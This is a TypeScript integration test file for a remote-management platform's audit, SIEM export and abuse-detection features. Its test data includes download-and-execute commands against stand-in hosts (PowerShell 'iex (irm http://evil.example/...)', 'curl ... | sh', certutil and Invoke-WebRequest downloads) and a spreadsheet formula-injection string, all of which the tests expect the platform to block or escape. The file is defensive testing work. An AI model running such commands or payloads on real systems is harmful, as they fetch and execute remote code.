import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { evaluatePolicy } from '../../shared/policy/index';
import type { PolicyContext } from '../../shared/policy/types';
import { recordScriptLog, type ScriptLogInput } from '../audit/script-logs';
import { startPgliteTestServer, type SignedIn, type TestServer, type TestUser } from './harness';
import { SyslogCollector, sdParams } from './audit-syslog-collector';

/**
 * Audit review, export, SIEM export and abuse review, black-box over HTTP. Dispatch (which
 * records script logs in production) belongs to another area, so executions are recorded here
 * with recordScriptLog and the real policy engine's decision, exactly as dispatch does.
 */
let s: TestServer;
let collector: SyslogCollector;
let admin: SignedIn;
let adminUser: TestUser;
let support: SignedIn;
let tenantA: string;
let tenantB: string;
let adminA: SignedIn;
let adminB: SignedIn;
let technicianA: SignedIn;
let technicianAUser: TestUser;
let technician2A: SignedIn;

const context = (): PolicyContext => ({
  tenantState: 'active',
  trust: { level: 'standard' },
  now: s.clock.now().getTime(),
  blockedDestinations: [{ id: 'rule-1', kind: 'domain', value: 'evil.example', scope: 'global' }],
  permittedScriptHashes: [],
  history: [],
});

async function execute(input: Omit<ScriptLogInput, 'decision' | 'reasons'> & { shell?: 'powershell' | 'bash' }) {
  const result = evaluatePolicy({
    text: input.text,
    shell: input.shell ?? 'powershell',
    platform: input.shell === 'bash' ? 'linux' : 'windows',
    context: context(),
  });
  const { id } = await recordScriptLog(s.server.ctx, { ...input, decision: result.decision, reasons: result.reasons });
  return { id, result };
}

beforeAll(async () => {
  collector = new SyslogCollector('tcp');
  const port = await collector.listen();
  s = await startPgliteTestServer({
    syslogHost: '127.0.0.1',
    syslogPort: port,
    syslogRetryMinMs: 20,
    syslogRetryMaxMs: 200,
    abuseReviewThreshold: 50,
    abuseAutoRestrictThreshold: 100,
    abuseSweepIntervalSeconds: 0,
  });
  adminUser = await s.createPlatformAdmin();
  admin = await s.signIn(adminUser);
  tenantA = await s.createTenant(admin);
  tenantB = await s.createTenant(admin);
  support = await s.signIn(await s.createUser(admin, { role: 'support' }));
  adminA = await s.signIn(await s.createUser(admin, { role: 'tenant_admin', tenantId: tenantA }));
  adminB = await s.signIn(await s.createUser(admin, { role: 'tenant_admin', tenantId: tenantB }));
  technicianAUser = await s.createUser(admin, { role: 'technician', tenantId: tenantA });
  technicianA = await s.signIn(technicianAUser);
  technician2A = await s.signIn(await s.createUser(admin, { role: 'technician', tenantId: tenantA }));
}, 60_000);

afterAll(async () => {
  await s?.close();
  await collector?.close();
});

describe('blocked events review', () => {
  let blockedId: string;
  let allowedId: string;

  beforeAll(async () => {
    const blocked = await execute({
      tenantId: tenantA,
      endpointId: 'endpoint-a1',
      userId: technicianAUser.id,
      kind: 'terminal_line',
      text: 'iex (irm http://evil.example/payload.ps1)',
      meta: { ip: '198.51.100.7', userAgent: 'console' },
    });
    expect(blocked.result.decision).toBe('block');
    blockedId = blocked.id;
    const allowed = await execute({
      tenantId: tenantA,
      endpointId: 'endpoint-a1',
      userId: technicianAUser.id,
      kind: 'command',
      text: 'Get-Service',
    });
    expect(allowed.result.decision).toBe('allow');
    allowedId = allowed.id;
  });

  it('support sees the blocked event with its reasons; allowed ones only when asked', async () => {
    const list = await s.request('GET', '/api/v1/audit/script-logs', { token: support.token });
    expect(list.status).toBe(200);
    const event = list.body.events.find((e: { id: string }) => e.id === blockedId);
    expect(event).toMatchObject({
      tenantId: tenantA,
      endpointId: 'endpoint-a1',
      userId: technicianAUser.id,
      kind: 'terminal_line',
      decision: 'block',
      wasBlockedBySecurityPolicy: true,
      excerpt: 'iex (irm http://evil.example/payload.ps1)',
      ip: '198.51.100.7',
    });
    expect(event.reasonCodes).toEqual(expect.arrayContaining(['download_execute', 'blocked_destination']));
    expect(list.body.events.some((e: { id: string }) => e.id === allowedId)).toBe(false);
    const any = await s.request('GET', '/api/v1/audit/script-logs?decision=any', { token: support.token });
    expect(any.body.events.some((e: { id: string }) => e.id === allowedId)).toBe(true);

    const detail = await s.request('GET', `/api/v1/audit/script-logs/${blockedId}`, { token: support.token });
    expect(detail.status).toBe(200);
    const destination = detail.body.reasons.find((r: { code: string }) => r.code === 'blocked_destination');
    const span = destination.spans[0];
    expect(detail.body.excerpt.slice(span.start, span.end)).toContain('evil.example');
  });

  it('filters by tenant, endpoint, user, reason code, time range and text', async () => {
    const ids = async (query: string) => {
      const response = await s.request('GET', `/api/v1/audit/script-logs?${query}`, { token: support.token });
      expect(response.status).toBe(200);
      return (response.body.events as { id: string }[]).map((e) => e.id);
    };
    expect(await ids(`tenantId=${tenantA}`)).toContain(blockedId);
    expect(await ids(`tenantId=${tenantB}`)).not.toContain(blockedId);
    expect(await ids('endpointId=endpoint-a1')).toContain(blockedId);
    expect(await ids('endpointId=other')).not.toContain(blockedId);
    expect(await ids(`userId=${technicianAUser.id}`)).toContain(blockedId);
    expect(await ids('reasonCode=download_execute')).toContain(blockedId);
    expect(await ids('reasonCode=rmm_tool')).not.toContain(blockedId);
    const now = s.clock.now().getTime();
    expect(await ids(`from=${new Date(now - 60_000).toISOString()}&to=${new Date(now + 60_000).toISOString()}`)).toContain(blockedId);
    expect(await ids(`from=${new Date(now + 60_000).toISOString()}`)).not.toContain(blockedId);
    expect(await ids('q=EVIL.EXAMPLE')).toContain(blockedId);
    expect(await ids('q=not-in-any-command')).not.toContain(blockedId);
    const bad = await s.request('GET', '/api/v1/audit/script-logs?reasonCode=%27%3B%20drop&from=yesterday', { token: support.token });
    expect(bad.status).toBe(400);
    expect(Object.keys(bad.body.error.fields)).toEqual(expect.arrayContaining(['query.reasonCode', 'query.from']));
  });

  it('text search treats % and _ literally', async () => {
    const percent = await execute({
      tenantId: tenantB,
      endpointId: null,
      userId: null,
      kind: 'command',
      text: 'certutil -urlcache -f http://x.example/%TEMP%a.exe a.exe',
    });
    const plain = await execute({
      tenantId: tenantB,
      endpointId: null,
      userId: null,
      kind: 'command',
      text: 'certutil -urlcache -f http://x.example/b_c.exe b.exe',
    });
    expect(percent.result.decision).toBe('block');
    expect(plain.result.decision).toBe('block');
    const search = async (q: string) => {
      const response = await s.request('GET', `/api/v1/audit/script-logs?tenantId=${tenantB}&q=${encodeURIComponent(q)}`, {
        token: support.token,
      });
      return (response.body.events as { id: string }[]).map((e) => e.id);
    };
    expect(await search('%')).toEqual([percent.id]);
    expect(await search('_')).toEqual([plain.id]);
    expect(await search('x.example/%')).toEqual([percent.id]);
  });

  it('a tenant user of another tenant does not see the event; tenant users see their own tenant', async () => {
    const listB = await s.request('GET', '/api/v1/audit/script-logs', { token: adminB.token });
    expect(listB.status).toBe(200);
    expect(listB.body.events.some((e: { id: string }) => e.id === blockedId)).toBe(false);
    expect((await s.request('GET', `/api/v1/audit/script-logs?tenantId=${tenantA}`, { token: adminB.token })).status).toBe(404);
    expect((await s.request('GET', `/api/v1/audit/script-logs/${blockedId}`, { token: adminB.token })).status).toBe(404);
    const exportB = await s.request('GET', '/api/v1/audit/script-logs/export?format=jsonl', { token: adminB.token });
    expect(exportB.status).toBe(200);
    expect(exportB.text).not.toContain(blockedId);

    const listA = await s.request('GET', '/api/v1/audit/script-logs', { token: adminA.token });
    expect(listA.body.events.some((e: { id: string }) => e.id === blockedId)).toBe(true);
    expect(listA.body.events.every((e: { tenantId: string }) => e.tenantId === tenantA)).toBe(true);
    // Technicians see their own executions only.
    const own = await s.request('GET', '/api/v1/audit/script-logs', { token: technicianA.token });
    expect(own.body.events.map((e: { id: string }) => e.id)).toContain(blockedId);
    const other = await s.request('GET', '/api/v1/audit/script-logs', { token: technician2A.token });
    expect(other.status).toBe(200);
    expect(other.body.events).toEqual([]);
    expect((await s.request('GET', `/api/v1/audit/script-logs/${blockedId}`, { token: technician2A.token })).status).toBe(404);
  });

  it('keyset paging walks every event once, also when they share a timestamp', async () => {
    const tenant = await s.createTenant(admin);
    const created: string[] = [];
    for (let n = 0; n < 5; n++) {
      created.push(
        (
          await execute({
            tenantId: tenant,
            endpointId: null,
            userId: null,
            kind: 'script_run',
            text: `iex (irm http://evil.example/${n})`,
          })
        ).id,
      );
    }
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const query: string = `tenantId=${tenant}&limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`;
      const page = await s.request('GET', `/api/v1/audit/script-logs?${query}`, { token: support.token });
      expect(page.status).toBe(200);
      seen.push(...(page.body.events as { id: string }[]).map((e) => e.id));
      cursor = page.body.nextCursor;
      pages += 1;
    } while (cursor);
    expect(pages).toBe(3);
    expect(seen).toEqual([...created].reverse());
    const bad = await s.request('GET', '/api/v1/audit/script-logs?cursor=not-a-cursor', { token: support.token });
    expect(bad.status).toBe(400);
    expect(bad.body.error.fields['query.cursor']).toMatch(/cursor/);
  });

  it('exports CSV (escaped, formula-safe) and JSON Lines containing the event', async () => {
    const formula = await execute({
      tenantId: tenantA,
      endpointId: '=HYPERLINK("http://x")',
      userId: null,
      kind: 'command',
      text: '=cmd|\' /c calc\'!A0 ; iex (irm http://evil.example/"q")\nsecond line',
    });
    const csv = await s.request('GET', `/api/v1/audit/script-logs/export?format=csv&tenantId=${tenantA}`, { token: support.token });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="bulwark-script-logs-.*\.csv"$/);
    expect(csv.headers.get('x-content-type-options')).toBe('nosniff');
    const rows = parseCsv(csv.text);
    const header = rows[0]!;
    expect(header.slice(0, 3)).toEqual(['at', 'id', 'tenant_id']);
    const byId = new Map(rows.slice(1).map((row) => [row[header.indexOf('id')], row]));
    expect(byId.get(blockedId)![header.indexOf('decision')]).toBe('block');
    const row = byId.get(formula.id)!;
    expect(row[header.indexOf('excerpt')]).toBe("'=cmd|' /c calc'!A0 ; iex (irm http://evil.example/\"q\")\nsecond line");
    expect(row[header.indexOf('endpoint_id')]).toBe('\'=HYPERLINK("http://x")');
    expect(byId.has(allowedId)).toBe(false);

    const jsonl = await s.request('GET', `/api/v1/audit/script-logs/export?format=jsonl&tenantId=${tenantA}&decision=any`, {
      token: support.token,
    });
    expect(jsonl.status).toBe(200);
    expect(jsonl.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
    const lines = jsonl.text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { id: string; reasons: unknown[]; excerpt: string });
    const event = lines.find((line) => line.id === blockedId)!;
    expect(event.excerpt).toBe('iex (irm http://evil.example/payload.ps1)');
    expect(event.reasons.length).toBeGreaterThan(0);
    expect(lines.some((line) => line.id === allowedId)).toBe(true);
  });

  it('the timeline shows audit events, login events and script logs as one model', async () => {
    const timeline = await s.request('GET', `/api/v1/audit/events?tenantId=${tenantA}&limit=500`, { token: support.token });
    expect(timeline.status).toBe(200);
    const events = timeline.body.events as { source: string; action: string; id: string; targetId: string | null }[];
    expect(events.some((e) => e.source === 'audit' && e.action === 'tenant.created' && e.targetId === tenantA)).toBe(true);
    expect(events.some((e) => e.source === 'login' && e.action === 'login.mfa.success')).toBe(true);
    expect(events.some((e) => e.source === 'script' && e.id === blockedId && e.action === 'script.block')).toBe(true);
    const family = await s.request('GET', '/api/v1/audit/events?action=tenant.', { token: support.token });
    expect(family.body.events.length).toBeGreaterThan(0);
    expect(family.body.events.every((e: { action: string }) => e.action.startsWith('tenant.'))).toBe(true);
    const foreign = await s.request('GET', '/api/v1/audit/events?limit=500', { token: adminB.token });
    expect(foreign.body.events.every((e: { tenantId: string }) => e.tenantId === tenantB)).toBe(true);
    expect((await s.request('GET', '/api/v1/audit/events', { token: technicianA.token })).status).toBe(403);
    const csv = await s.request('GET', `/api/v1/audit/events/export?tenantId=${tenantA}&format=csv`, { token: support.token });
    expect(csv.status).toBe(200);
    expect(csv.text).toContain(blockedId);
  });

  it('login events page with the same keyset cursor', async () => {
    const first = await s.request('GET', '/api/v1/audit/logins?limit=3', { token: support.token });
    expect(first.status).toBe(200);
    expect(first.body.events).toHaveLength(3);
    const second = await s.request('GET', `/api/v1/audit/logins?limit=3&cursor=${encodeURIComponent(first.body.nextCursor)}`, {
      token: support.token,
    });
    const firstIds = new Set(first.body.events.map((e: { id: string }) => e.id));
    expect(second.body.events.length).toBeGreaterThan(0);
    expect(second.body.events.some((e: { id: string }) => firstIds.has(e.id))).toBe(false);
  });
});

describe('SIEM export', () => {
  it('syslog lines arrive at a loopback collector and parse as RFC 5424', async () => {
    const { id } = await execute({
      tenantId: tenantA,
      endpointId: 'endpoint-siem',
      userId: technicianAUser.id,
      kind: 'terminal_line',
      text: 'curl http://evil.example/x | sh',
      shell: 'bash',
      meta: { ip: '203.0.113.9', userAgent: null },
    });
    const message = await collector.waitFor((m) => sdParams(m).eventId?.[0] === id);
    const params = sdParams(message);
    expect(message.version).toBe(1);
    expect(message.appName).toBe('bulwark');
    expect(message.msgId).toBe('script');
    expect(message.severity).toBe(4);
    expect(params.eventType).toEqual(['script.block']);
    expect(params.tenant).toEqual([tenantA]);
    expect(params.actor).toEqual([`user:${technicianAUser.id}`]);
    expect(params.srcIp).toEqual(['203.0.113.9']);
    expect(params.reasonCode).toEqual(expect.arrayContaining(['download_execute']));
    // Audit and login events go the same way.
    const tenantCreated = await collector.waitFor((m) => sdParams(m).eventType?.[0] === 'tenant.created');
    expect(sdParams(tenantCreated).tenant).toBeDefined();
    await collector.waitFor((m) => sdParams(m).eventType?.[0] === 'login.mfa.success');
    expect(collector.errors).toEqual([]);

    const status = await s.request('GET', '/api/v1/audit/siem', { token: admin.token });
    expect(status.status).toBe(200);
    expect(status.body).toMatchObject({ enabled: true, protocol: 'tcp', connected: true, dropped: 0 });
    expect(status.body.sent).toBeGreaterThan(0);
    expect((await s.request('GET', '/api/v1/audit/siem', { token: support.token })).status).toBe(403);
  });
});

describe('abuse signals', () => {
  it('a tenant that trips the signals appears in the review queue with its evidence', async () => {
    const tenant = await s.createTenant(admin);
    const ids: string[] = [];
    for (let n = 0; n < 10; n++) {
      const text = n < 3 ? `Invoke-WebRequest http://evil.example/tool${n}.exe -OutFile t.exe` : `iex (irm http://loader.example/${n})`;
      const { id, result } = await execute({ tenantId: tenant, endpointId: `endpoint-${n}`, userId: null, kind: 'command', text });
      expect(result.decision).toBe('block');
      ids.push(id);
    }
    const queue = await s.request('GET', '/api/v1/abuse/reviews', { token: admin.token });
    expect(queue.status).toBe(200);
    const review = queue.body.reviews.find((r: { tenantId: string }) => r.tenantId === tenant);
    expect(review).toBeDefined();
    expect(review.status).toBe('open');
    expect(review.score).toBeGreaterThanOrEqual(50);
    expect(review.autoRestricted).toBe(false);
    const codes = review.signals.map((signal: { code: string }) => signal.code);
    expect(codes).toEqual(expect.arrayContaining(['blocked_commands', 'blocked_destinations']));
    const destinations = review.signals.find((signal: { code: string }) => signal.code === 'blocked_destinations');
    expect(destinations.count).toBe(3);
    expect(destinations.evidence.map((e: { scriptLogId: string }) => e.scriptLogId).sort()).toEqual(ids.slice(0, 3).sort());

    // The flag itself is audited (and so reaches the SIEM).
    const flagged = await s.request('GET', `/api/v1/audit/events?tenantId=${tenant}&action=abuse.flagged`, { token: support.token });
    expect(flagged.body.events).toHaveLength(1);
    await collector.waitFor((m) => sdParams(m).eventType?.[0] === 'abuse.flagged' && sdParams(m).tenant?.[0] === tenant);

    // Tenants never see the queue; support sees a tenant's assessment but does not decide.
    expect((await s.request('GET', '/api/v1/abuse/reviews', { token: adminA.token })).status).toBe(403);
    expect((await s.request('GET', '/api/v1/abuse/reviews', { token: support.token })).status).toBe(403);
    const assessment = await s.request('GET', `/api/v1/abuse/tenants/${tenant}`, { token: support.token });
    expect(assessment.status).toBe(200);
    expect(assessment.body.score).toBe(review.score);

    // Scoring alone did not restrict the tenant (below the configured automatic threshold).
    const tenantNow = await s.request('GET', `/api/v1/tenants/${tenant}`, { token: admin.token });
    expect(tenantNow.body.state).toBe('active');

    const resolved = await s.request('POST', `/api/v1/abuse/reviews/${review.id}/resolve`, {
      token: admin.token,
      body: { status: 'dismissed', note: 'pen-test customer, confirmed by phone' },
    });
    expect(resolved.status).toBe(200);
    expect(resolved.body).toMatchObject({ status: 'dismissed', resolutionNote: 'pen-test customer, confirmed by phone' });
    const again = await s.request('POST', `/api/v1/abuse/reviews/${review.id}/resolve`, {
      token: admin.token,
      body: { status: 'actioned', note: 'again' },
    });
    expect(again.status).toBe(409);
  });

  it('above the operator-configured threshold the tenant is restricted automatically, and that is audited', async () => {
    const tenant = await s.createTenant(admin);
    for (let n = 0; n < 12; n++) {
      await execute({
        tenantId: tenant,
        endpointId: null,
        userId: null,
        kind: 'command',
        text: `Invoke-WebRequest http://evil.example/x${n} -OutFile x.exe`,
      });
    }
    const sweep = await s.request('POST', '/api/v1/abuse/sweep', { token: admin.token });
    expect(sweep.status).toBe(200);
    const queue = await s.request('GET', '/api/v1/abuse/reviews', { token: admin.token });
    const review = queue.body.reviews.find((r: { tenantId: string }) => r.tenantId === tenant);
    expect(review.score).toBeGreaterThanOrEqual(100);
    expect(review.autoRestricted).toBe(true);
    expect(review.tenantState).toBe('restricted');
    const audit = await s.request('GET', `/api/v1/audit/events?tenantId=${tenant}&source=audit`, { token: support.token });
    const actions = audit.body.events.map((e: { action: string }) => e.action);
    expect(actions).toEqual(expect.arrayContaining(['abuse.auto_restricted', 'tenant.state_changed', 'abuse.flagged']));
    const history = await s.request('GET', `/api/v1/tenants/${tenant}/state-history`, { token: admin.token });
    expect(history.body.changes[0]).toMatchObject({ fromState: 'active', toState: 'restricted', actorUserId: null });
  });
});

describe('abuse signals from sign-ups', () => {
  it('sign-ups sharing an email domain and a network are signals of each tenant, with the other tenants as evidence', async () => {
    const tenants: string[] = [];
    for (let n = 0; n < 3; n++) {
      const signup = await s.request('POST', '/api/v1/signup', {
        body: {
          tenantName: s.unique('signup'),
          email: `owner${n}-${s.unique('x')}@sharedcorp.example`,
          displayName: `Owner ${n}`,
          password: 'violet staple engine orbit',
        },
      });
      expect(signup.status).toBe(201);
      tenants.push(signup.body.tenantId);
    }
    const assessment = await s.request('GET', `/api/v1/abuse/tenants/${tenants[2]}`, { token: support.token });
    expect(assessment.status).toBe(200);
    const domain = assessment.body.signals.find((signal: { code: string }) => signal.code === 'shared_signup_domain');
    expect(domain).toMatchObject({ count: 2, points: 20 });
    expect(domain.evidence.map((e: { tenantId: string }) => e.tenantId).sort()).toEqual(tenants.slice(0, 2).sort());
    const network = assessment.body.signals.find((signal: { code: string }) => signal.code === 'shared_signup_network');
    expect(network.count).toBeGreaterThanOrEqual(2);
    expect(network.evidence[0].network).toBe('127.0.0.0/24');
    expect(assessment.body.score).toBe(domain.points + network.points);
  });
});

describe('abuse signal windows', () => {
  it('signals count only events inside their window (the clock moves, the score falls)', async () => {
    const tenant = await s.createTenant(admin);
    for (let n = 0; n < 10; n++) {
      await execute({ tenantId: tenant, endpointId: null, userId: null, kind: 'command', text: `iex (irm http://loader.example/${n})` });
    }
    const before = await s.request('GET', `/api/v1/abuse/tenants/${tenant}`, { token: support.token });
    expect(before.body.signals.find((signal: { code: string }) => signal.code === 'blocked_commands')).toMatchObject({
      count: 10,
      points: 25,
    });
    s.clock.advance(25 * 3_600_000);
    const fresh = await s.signIn(adminUser);
    const after = await s.request('GET', `/api/v1/abuse/tenants/${tenant}`, { token: fresh.token });
    expect(after.status).toBe(200);
    expect(after.body.signals.find((signal: { code: string }) => signal.code === 'blocked_commands')).toMatchObject({
      count: 0,
      points: 0,
    });
    expect(after.body.score).toBe(0);
  });
});

/** RFC 4180 parser for the test (quoted cells, doubled quotes, CRLF rows, newlines inside cells). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += char;
  }
  return rows;
}
